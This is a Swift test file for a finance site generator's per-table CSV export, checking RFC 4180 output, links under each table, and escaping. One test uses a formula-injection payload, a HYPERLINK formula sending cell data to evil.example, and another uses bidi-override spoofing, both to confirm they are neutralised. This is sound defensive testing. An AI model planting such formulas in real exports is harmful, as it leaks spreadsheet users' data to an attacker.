@@ -1,0 +1,203 @@
+import Foundation
+import Testing
+@testable import NestEggBuild
+@testable import NestEggModel
+@testable import NestEggReport
+@testable import NestEggRender
+@testable import NestEggSupport
+
+/// Every table as CSV (issue 35): each table of a page is a CSV beside it, with the page's rows and
+/// cells, each cell guarded against formulas, and linked under its table in the Markdown and the HTML.
+@Suite struct TableCSVTests {
+    /// RFC 4180 read back: rows of fields (CRLF line ends; quoted fields may hold anything).
+    static func parse(_ csv: String) -> [[String]]? {
+        var rows: [[String]] = [], row: [String] = [], field = "", quoted = false, atStart = true
+        var scalars = Array(csv.unicodeScalars)[...]
+        while let c = scalars.popFirst() {
+            if quoted {
+                if c == "\"" {
+                    if scalars.first == "\"" { scalars.removeFirst(); field.unicodeScalars.append("\"") } else { quoted = false }
+                } else { field.unicodeScalars.append(c) }
+            } else if c == "\"" && atStart {
+                quoted = true; atStart = false
+            } else if c == "," {
+                row.append(field); field = ""; atStart = true
+            } else if c == "\r" {
+                guard scalars.popFirst() == "\n" else { return nil }
+                row.append(field); rows.append(row); row = []; field = ""; atStart = true
+            } else if c == "\"" || c == "\n" {
+                return nil  // a quote or a bare line end in an unquoted field
+            } else {
+                field.unicodeScalars.append(c); atStart = false
+            }
+        }
+        return quoted || !row.isEmpty || !field.isEmpty ? nil : rows
+    }
+
+    static func cells(_ markdown: String) -> [[String]] { TableCSV.tables(in: markdown).first?.rows ?? [] }
+
+    @Test func anEscapedPipeStaysInItsCell() {
+        #expect(Self.cells("| a \\| b | c |\n| --- | --- |\n| 1 \\| 2 | 3 |\n") == [["a | b", "c"], ["1 | 2", "3"]])
+    }
+
+    @Test func markdownInACellIsItsText() {
+        let rows = Self.cells("| Payee | Note |\n| --- | --- |\n| [**Tesco** _Metro_](payees/tesco.md) | `code` and ~~old~~<br>new |\n")
+        #expect(rows == [["Payee", "Note"], ["Tesco Metro", "code and old new"]])
+    }
+
+    @Test func aFormulaFromDataIsText() throws {
+        let payee = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"
+        let markdown = "| Payee | Amount |\n| --- | ---: |\n| \(Escape.value(payee, at: .tableCell)) | -£1,234.56 |\n| @SUM(A1) | +1 |\n"
+        let table = try #require(TableCSV.tables(in: markdown).first)
+        #expect(table.rows[1][0] == payee)
+        let csv = table.csv
+        #expect(csv == "Payee,Amount\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",\"'-£1,234.56\"\r\n'@SUM(A1),'+1\r\n")
+        let parsed = try #require(Self.parse(csv))
+        #expect(parsed.allSatisfy { $0.allSatisfy { field in !["=", "+", "-", "@"].contains(field.first.map(String.init) ?? "") } })
+    }
+
+    @Test func nonASCIIAndBidiControls() throws {
+        let markdown = "| Payee |\n| --- |\n| Café Zoë — 日本 🙂 |\n| \u{202E}1.00£ evil |\n| \u{2068}שלום\u{2069} |\n"
+        let csv = try #require(TableCSV.tables(in: markdown).first).csv
+        #expect(csv == "Payee\r\nCafé Zoë — 日本 🙂\r\n1.00£ evil\r\nשלום\r\n")
+        #expect(!csv.unicodeScalars.contains(where: Text.isBidiControl))
+    }
+
+    @Test func shortRowsArePaddedAndWidthIsTheHeaders() throws {
+        let table = try #require(TableCSV.tables(in: "| a | b | c |\n| - | - | - |\n| 1 |\n").first)
+        #expect(try #require(Self.parse(table.csv)) == [["a", "b", "c"], ["1", "", ""]])
+    }
+
+    @Test func eachTableIsLinkedUnderItselfInBothFlavours() {
+        let plain = "# T\n\n| a |\n| - |\n| 1 |\n\nText.\n\n| b |\n| - |\n| 2 |\n| 3 |\n"
+        // The HTML flavour has a table of its own (a chart's data) before the second.
+        let forHTML = "# T\n\n| a |\n| - |\n| 1 |\n\nText.\n\n| only HTML |\n| - |\n| x |\n\n| b |\n| - |\n| 2 |\n| 3 |\n"
+        let linked = TableCSV.link(plain: plain, forHTML: forHTML, page: "week")
+        #expect(linked.plain == "# T\n\n| a |\n| - |\n| 1 |\n\n[This table as CSV](<week.table-1.csv>)\n\nText.\n\n| b |\n| - |\n| 2 |\n| 3 |\n\n[This table as CSV](<week.table-3.csv>)\n")
+        #expect(linked.forHTML == "# T\n\n| a |\n| - |\n| 1 |\n\n[This table as CSV](<week.table-1.csv>)\n\nText.\n\n| only HTML |\n| - |\n| x |\n\n[This table as CSV](<week.table-2.csv>)\n\n| b |\n| - |\n| 2 |\n| 3 |\n\n[This table as CSV](<week.table-3.csv>)\n")
+        #expect(linked.csvs == ["a\r\n1\r\n", "only HTML\r\nx\r\n", "b\r\n2\r\n3\r\n"])
+        let html = CMark.html(from: linked.forHTML)
+        #expect(html.contains("</table>\n<p><a href=\"week.table-1.csv\">This table as CSV</a></p>"))
+        #expect(TableCSV.tables(in: linked.plain).map(\.rows) == TableCSV.tables(in: plain).map(\.rows))
+    }
+
+    @Test func aPageWithoutTablesIsUnchanged() {
+        let linked = TableCSV.link(plain: "# a | b\n\nx | y\n", forHTML: "# a | b\n", page: "p")
+        #expect(linked.plain == "# a | b\n\nx | y\n" && linked.forHTML == "# a | b\n" && linked.csvs.isEmpty)
+    }
+
+    /// Property: any string from data, placed in a table cell as the templates place it, comes back
+    /// as one cell of one row: the text the page shows, without bidirectional controls, guarded.
+    @Test func anyStringInACellIsOneGuardedCell() throws {
+        let strings = PropertyStrings.make(count: 20_000)
+        var markdown = "| Name | n |\n| --- | ---: |\n"
+        for (index, value) in strings.enumerated() { markdown += "| \(Escape.value(value, at: .tableCell)) | \(index) |\n" }
+        let table = try #require(TableCSV.tables(in: markdown).first)
+        try #require(table.rows.count == strings.count + 1)
+        let rows = try #require(Self.parse(table.csv))
+        try #require(rows.count == strings.count + 1)
+        var failures: [String] = []
+        for (index, value) in strings.enumerated() {
+            let expected = CSVCell.guarded(Text.withoutBidiControls(Oracle.normalised(value)))
+            if rows[index + 1] != [expected, String(index)] { failures.append("\(value.debugDescription) → \(rows[index + 1].debugDescription)") }
+        }
+        #expect(failures.isEmpty, "\(failures.count): \(failures.prefix(8))")
+    }
+}
+
+/// The fixture site: every table of every page's HTML has its CSV beside the page, linked right
+/// under it, with the same rows and cells; every table of its Markdown too.
+@Suite struct TableCSVEndToEndTests {
+    /// The tables of an HTML page, as (cells by row, the link right after the table, if any: the
+    /// HTML polish wraps a table in a scrolling `div`).
+    static func htmlTables(_ html: String) -> [(rows: [[String]], link: String?)] {
+        var tables: [(rows: [[String]], link: String?)] = []
+        var rest = html[...]
+        while let open = rest.range(of: "<table"), let close = rest[open.upperBound...].range(of: "</table>") {
+            let body = rest[open.upperBound..<close.lowerBound]
+            var rows: [[String]] = []
+            for row in body.components(separatedBy: "<tr").dropFirst() {
+                var cells: [String] = []
+                var cellRest = row[...]
+                while let start = cellRest.range(of: #"<t[hd]( [^>]*)?>"#, options: .regularExpression),
+                      let end = cellRest[start.upperBound...].range(of: #"</t[hd]>"#, options: .regularExpression) {
+                    cells.append(text(of: String(cellRest[start.upperBound..<end.lowerBound])))
+                    cellRest = cellRest[end.upperBound...]
+                }
+                rows.append(cells)
+            }
+            rest = rest[close.upperBound...]
+            let after = rest.prefix(200)
+            let link = after.range(of: #"^\s*(</div>\s*)?<p><a href="([^"]+\.table-[0-9]+\.csv)">This table as CSV</a></p>"#, options: .regularExpression)
+                .flatMap { range in after[range].range(of: #"[^"]+\.csv"#, options: .regularExpression).map { String(after[$0]) } }
+            tables.append((rows, link))
+        }
+        return tables
+    }
+
+    /// A cell's text as a reader reads it: an inline chart (a picture) and tags out, entities decoded.
+    static func text(of html: String) -> String {
+        var text = html.replacingOccurrences(of: "<svg.*?</svg>", with: "", options: .regularExpression)
+            .replacingOccurrences(of: "<br */?>", with: " ", options: .regularExpression)
+            .replacingOccurrences(of: "<[^>]*>", with: "", options: .regularExpression)
+        for (entity, character) in [("&lt;", "<"), ("&gt;", ">"), ("&quot;", "\""), ("&#39;", "'"), ("&nbsp;", "\u{A0}"), ("&amp;", "&")] {
+            text = text.replacingOccurrences(of: entity, with: character)
+        }
+        return text.trimmingCharacters(in: [" "])
+    }
+
+    @Test func everyTableOnTheFixtureSiteHasItsCSV() throws {
+        let work = try temporaryFolder()
+        defer { try? FileManager.default.removeItem(at: work) }
+        let site = work.appendingPathComponent("site")
+        var build = Build(options: BuildOptions(data: repositoryRoot.appendingPathComponent("Fixtures"), output: site))
+        build.progress = { _ in }
+        _ = try build.run()
+        let files = snapshot(site)
+        var tablesSeen = 0, failures: [String] = []
+        var csvsLinked: Set<String> = []
+        for (path, data) in files.sorted(by: { $0.key < $1.key }) where path.hasSuffix(".html") && path != "404.html" {
+            let folder = path.contains("/") ? String(path[..<path.lastIndex(of: "/")!]) + "/" : ""
+            for (index, table) in Self.htmlTables(String(decoding: data, as: UTF8.self)).enumerated() {
+                tablesSeen += 1
+                guard let link = table.link else { failures.append("\(path): table \(index + 1) has no CSV link"); continue }
+                csvsLinked.insert(folder + link)
+                guard let csv = files[folder + link], let rows = TableCSVTests.parse(String(decoding: csv, as: UTF8.self)) else {
+                    failures.append("\(path): \(link) missing or not RFC 4180"); continue
+                }
+                let expected = table.rows.map { $0.map { CSVCell.guarded(Text.withoutBidiControls($0)) } }
+                if rows.count != expected.count { failures.append("\(path): \(link) has \(rows.count) rows, the page \(expected.count)") }
+                else if rows != expected { failures.append("\(path): \(link) differs: \(zip(rows, expected).first { $0 != $1 }.debugDescription)") }
+            }
+        }
+        // Each table of the Markdown links, on the line after the next, to a CSV of its rows and columns.
+        for (path, data) in files where path.hasSuffix(".md") {
+            let markdown = String(decoding: data, as: UTF8.self)
+            let lines = markdown.split(separator: "\n", omittingEmptySubsequences: false)
+            let folder = path.contains("/") ? String(path[..<path.lastIndex(of: "/")!]) + "/" : ""
+            for (index, table) in TableCSV.tables(in: markdown).enumerated() {
+                let line = table.endLine + 1  // 0-based: the line after the blank one
+                guard line < lines.count, let match = lines[line].wholeMatch(of: /\[This table as CSV\]\(<([^>]+)>\)/) else {
+                    failures.append("\(path): table \(index + 1) not linked"); continue
+                }
+                let name = folder + String(match.1)
+                guard let csv = files[name], let rows = TableCSVTests.parse(String(decoding: csv, as: UTF8.self)) else {
+                    failures.append("\(path): \(name) missing"); continue
+                }
+                if rows.count != table.rows.count || rows.first?.count != table.rows.first?.count {
+                    failures.append("\(path): \(name) is not the shape of table \(index + 1)")
+                }
+            }
+        }
+        let written = Set(files.keys.filter { $0.contains(".table-") && $0.hasSuffix(".csv") })
+        #expect(tablesSeen > 50)
+        #expect(written == csvsLinked, "CSVs no HTML table links: \(written.subtracting(csvsLinked).sorted().prefix(5))")
+        #expect(failures.isEmpty, "\(failures.count): \(failures.prefix(10).joined(separator: "\n"))")
+    }
+}
+
+extension Page {
+    static func fileName(ofPath path: String) -> Substring {
+        path.lastIndex(of: "/").map { path[path.index(after: $0)...] } ?? path[...]
+    }
+}
